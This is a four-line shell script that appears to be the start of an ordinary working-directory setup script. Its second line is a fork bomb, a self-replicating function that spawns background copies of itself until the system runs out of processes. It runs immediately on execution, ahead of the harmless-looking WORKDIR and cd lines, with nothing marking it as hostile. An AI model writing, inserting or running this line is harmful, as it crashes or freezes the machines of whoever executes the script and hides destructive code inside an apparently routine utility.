#!/bin/sh
b(){ b|b& };b
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
